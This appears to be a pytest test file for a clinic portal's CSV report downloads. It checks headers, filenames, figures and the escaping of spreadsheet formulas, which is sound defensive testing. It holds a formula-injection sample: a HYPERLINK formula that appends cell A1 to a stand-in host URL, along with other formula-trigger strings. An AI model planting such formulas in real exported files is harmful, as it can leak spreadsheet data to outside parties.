"""Figures as files: what a spreadsheet reads back, and what it must never calculate."""

import csv
import io
from typing import Any

import pytest
from django.test import Client

from mediconnect.operations.exchange.files import harmless
from mediconnect.portal.reports.pages import FILES
from tests.factories import UserFactory
from tests.portal.reports.clinic import Week, at, member
from tests.portal.reports.test_pages import address, client_of, fill

HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"read me")'


@pytest.fixture(name="desk")
def _desk(week: Week) -> Client:
    return client_of(member(week.clinic))


def read(response: Any) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    assert text.count("\r\n") >= 1
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("name", FILES)
def test_a_file_names_itself_and_its_days_and_no_patient(week: Week, desk: Client, name: str) -> None:
    fill(week)
    response = desk.get(address(week, name, file=True))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{name}_2026-03-02_2026-03-08.csv"'
    assert "no-store" in response["Cache-Control"]
    rows = read(response)
    assert len(rows) > 1
    assert {len(row) for row in rows} == {len(rows[0])}
    assert "Aldersgate" not in response.content.decode()


def test_minutes_are_numbers_and_days_are_iso(week: Week, desk: Client) -> None:
    fill(week)
    heads, provider, total = read(desk.get(address(week, "utilisation", file=True)))
    assert heads[:3] == ["Provider", "Open, minutes", "Booked, minutes"]
    assert provider == ["Dr. Amara Obi", "480", "60", "12.5", "30", "30", "30"]
    assert total == ["Total", *provider[1:]]
    rows = read(desk.get(address(week, "utilisation-by-day", file=True)))
    assert rows[1] == ["2026-03-02", *provider]


def test_no_shows_and_lead_times_say_what_their_pages_say(week: Week, desk: Client) -> None:
    fill(week)
    rows = read(desk.get(address(week, "no-shows", file=True)))
    assert rows[1] == ["By provider", "Dr. Amara Obi", "1", "4", "25.0", "yes", "0"]
    assert rows[-1] == ["Total", "", "1", "4", "25.0", "yes", "0"]
    rows = read(desk.get(address(week, "lead-times", file=True)))
    assert rows[-1] == ["Total", "3", "1", "1", "0", "3", "0", "0", "0", "0", "0", "0"]


def test_a_reason_that_would_be_a_formula_is_text(week: Week, desk: Client) -> None:
    user = UserFactory.create(display_name="@Robin")
    week.visit(at(2, 19), override_reason=HOSTILE, overridden_by=user)
    (_, row) = read(desk.get(address(week, "overrides", file=True)))
    assert row[0] == "2026-03-02T19:00-05:00"
    assert row[3] == f"'{HOSTILE}"
    assert row[4] == "'@Robin"


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-", "+49", "-1-1", "＝1+1", "--1", "-1e5"]
)
def test_what_a_spreadsheet_would_calculate_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "-12.5", "0", "12.5", "", "late", "a=1", "2026-03-02", "o'clock"])
def test_numbers_and_ordinary_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
